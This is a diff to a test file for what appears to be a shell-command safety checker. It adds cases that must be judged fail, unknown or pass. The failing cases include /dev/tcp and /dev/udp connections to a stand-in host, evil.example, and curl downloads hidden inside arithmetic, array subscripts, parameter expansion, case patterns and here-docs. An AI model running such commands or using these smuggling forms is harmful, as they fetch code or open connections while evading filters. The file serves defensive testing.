@@ -28,16 +28,44 @@ test.each([
   `flock /tmp/l curl -O ${url}`,
   `flock /tmp/l -c 'curl -O ${url}'`,
   `busybox wget ${url}`,
+  'exec 3<>/dev/tcp/evil.example/80\ncat <&3',
+  'cat < /dev/tcp/evil.example/80',
+  '{ echo x; } > /dev/udp/evil.example/80',
+  `mapfile -C 'curl -O ${url}' -c 1 x < y`,
 ])('what the shell runs by a word of its own is read: %s', async (text) => {
   expect(await shell(text)).toBe('fail');
 });
 
-test.each([`echo 'curl -O ${url}' | sh`, `/usr/bin/cur? -O ${url}`, 'base64 -d x | python', 'cat x | bash -s'])(
-  'what no text says is not passed: %s',
-  async (text) => {
-    expect(await shell(text)).toBe('unknown');
-  },
-);
+test.each([
+  `a[$(curl -O ${url})]=1`,
+  `a=( $(curl -O ${url}) )`,
+  `declare -a b=( $(curl -O ${url}) )`,
+  `echo $(( $(curl -O ${url}) + 1 ))`,
+  `(( x = $(curl -O ${url}) ))`,
+  `for ((i=$(curl -O ${url}); i<3; i++)); do echo; done`,
+  `echo \${a[$(curl -O ${url})]}`,
+  `echo \${a/x/$(curl -O ${url})}`,
+  `echo \${a:$(curl -O ${url})}`,
+  `echo \${a:+$(curl -O ${url})}`,
+  `[[ $(curl -O ${url}) == x ]] && echo`,
+  `case $(curl -O ${url}) in x) ;; esac`,
+  `case x in $(curl -O ${url})) ;; esac`,
+  `cat <<E\n$(curl -O ${url})\nE`,
+  `cat <<< "$(curl -O ${url})"`,
+  `{ cat; } < $(curl -O ${url})`,
+])('what the shell runs to know what its words say is read: %s', async (text) => {
+  expect(await shell(text)).toBe('fail');
+});
+
+test.each([
+  `echo 'curl -O ${url}' | sh`,
+  `/usr/bin/cur? -O ${url}`,
+  'base64 -d x | python',
+  'cat x | bash -s',
+  'cat < /dev/tcp/$HOST/80',
+])('what no text says is not passed: %s', async (text) => {
+  expect(await shell(text)).toBe('unknown');
+});
 
 test.each([
   'eval "$(conda shell.bash hook)"\npython -V',
@@ -48,6 +76,8 @@ test.each([
   'echo x | python -c "import sys"',
   '[ -f /tmp/x ] && echo a[0]',
   'cat /app/data.csv | bash -c "cat"',
+  'until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done',
+  'cat <<"E"\n$(curl x)\nE',
 ])('what runs nothing else is passed: %s', async (text) => {
   expect(await shell(text)).toBe('pass');
 });
